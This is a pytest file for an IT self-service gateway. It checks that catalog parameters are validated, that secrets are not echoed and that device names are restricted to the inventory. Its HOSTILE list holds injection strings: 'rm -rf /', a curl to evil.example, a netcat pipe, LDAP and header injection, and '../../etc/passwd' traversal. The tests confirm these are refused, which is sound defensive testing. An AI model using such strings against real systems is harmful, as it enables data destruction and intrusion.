"""Parameters: typed, constrained, sourced; hostile values refused before anything runs."""

from __future__ import annotations

from pathlib import Path

import pytest

from gateway.devices.inventory import YamlDeviceInventory
from gateway.errors import SourceError
from gateway.runtime.errors import ParameterError
from gateway.selfservice.catalog import CatalogItem
from gateway.selfservice.definitions import CatalogItemDefinition
from gateway.selfservice.inputs import InventoryDevices, ValueSource, check_input
from tests.selfservice.harness import REPO, Stack

HOSTILE = [
    pytest.param("7zip; rm -rf /", id="a shell command after a semicolon"),
    pytest.param("$(curl evil.example)", id="a command substitution"),
    pytest.param("`id`", id="backticks"),
    pytest.param("7zip | nc evil 1", id="a pipe"),
    pytest.param("*)(uid=*))(|(uid=*", id="an LDAP filter injection"),
    pytest.param("7zip\\2a", id="an LDAP escape"),
    pytest.param("../../etc/passwd", id="a path traversal"),
    pytest.param("7zip?limit=1&search=x", id="a URL query injection"),
    pytest.param("7zip%2F..%2F", id="percent-encoded traversal"),
    pytest.param("7zip\r\nX-Injected: 1", id="a header injection"),
    pytest.param("7zip\x00", id="a NUL byte"),
]


def _item(**fields: object) -> CatalogItem:
    base: dict[str, object] = {
        "id": "sample",
        "title": "Sample",
        "category": "software",
        "owner": "it",
        "workflow": "software-install",
    }
    return CatalogItem(CatalogItemDefinition.model_validate({**base, **fields}), "x.yaml", "d")


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_titles_are_refused_and_nothing_runs(stack: Stack, value: str) -> None:
    with pytest.raises(ParameterError) as caught:
        stack.service.run("tom", "install-software", {"title": value, "devices": "tom-laptop"})
    assert str(caught.value).startswith(
        "invalid parameters for catalog item install-software: title:"
    )
    assert stack.executor.recent() == []


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_devices_are_refused(stack: Stack, value: str) -> None:
    with pytest.raises(ParameterError, match="devices: value 1:"):
        stack.service.run("tom", "install-software", {"title": "7zip", "devices": [value]})


def test_every_problem_is_named_at_once(stack: Stack) -> None:
    with pytest.raises(ParameterError) as caught:
        stack.service.run("tom", "install-software", {"colour": "red", "devices": ""})
    assert caught.value.problems == {
        "colour": "not a parameter of catalog item install-software (known: devices, title)",
        "devices": "required (a list of string, matching [A-Za-z0-9][A-Za-z0-9._-]{0,127})",
        "title": "required (string, matching [a-z0-9][a-z0-9._+-]{0,127})",
    }


def test_lists_take_json_or_comma_separated_text_and_drop_repeats() -> None:
    item = _item(parameters={"hosts": {"type": "list", "max_items": 3}}, target="hosts")
    assert check_input(item, {"hosts": "a, b,a"}, "tom", {}).targets == ("a", "b")
    assert check_input(item, {"hosts": ["a", "c"]}, "tom", {}).targets == ("a", "c")
    with pytest.raises(ParameterError, match="hosts: at most 3 values, found 4"):
        check_input(item, {"hosts": "a,b,c,d"}, "tom", {})
    with pytest.raises(ParameterError, match="hosts: value 1: expected text, found 5"):
        check_input(item, {"hosts": 5}, "tom", {})
    optional = _item(parameters={"hosts": {"type": "list", "required": False}})
    assert check_input(optional, {}, "tom", {}).plain == {}


def test_secrets_are_kept_apart_and_never_echoed() -> None:
    item = _item(
        parameters={"pin": {"secret": True, "pattern": "[0-9]{4}"}, "n": {"type": "integer"}}
    )
    checked = check_input(item, {"pin": "1234", "n": "7"}, "tom", {})
    assert checked.plain == {"n": 7}
    assert checked.secrets["pin"].get_secret_value() == "1234"
    with pytest.raises(ParameterError) as caught:
        check_input(item, {"pin": "12345-secret", "n": 1}, "tom", {})
    assert "12345-secret" not in str(caught.value)


def test_a_source_that_is_not_there_refuses_rather_than_allows() -> None:
    item = _item(parameters={"device": {"source": "devices"}})
    with pytest.raises(ParameterError, match="its allowed values \\(devices\\) cannot be read"):
        check_input(item, {"device": "tom-laptop"}, "tom", {})


def test_an_unknown_device_names_the_persons_own() -> None:
    inventory = YamlDeviceInventory.load(REPO / "automations/catalog/inventory/devices.yaml")
    sources: dict[str, ValueSource] = {"devices": InventoryDevices(inventory)}
    item = _item(parameters={"device": {"source": "devices"}})
    with pytest.raises(ParameterError) as caught:
        check_input(item, {"device": "ghost-pc"}, "tom", sources)
    assert (
        "'ghost-pc' is not a managed device of the inventory (allowed: tom-desktop, tom-laptop)"
        in str(caught.value)
    )
    with pytest.raises(ParameterError, match=r"inventory$"):
        check_input(item, {"device": "ghost-pc"}, "nobody", sources)
    assert len(inventory) == 9
    assert inventory.device("tom-laptop") is not None


def test_an_inventory_with_a_bad_device_name_names_the_line(tmp_path: Path) -> None:
    path = tmp_path / "devices.yaml"
    path.write_text("devices:\n  ok-pc: {owner: tom}\n  'bad name': {owner: tom}\n")
    with pytest.raises(SourceError) as caught:
        YamlDeviceInventory.load(path)
    assert "device name 'bad name' must match" in str(caught.value)
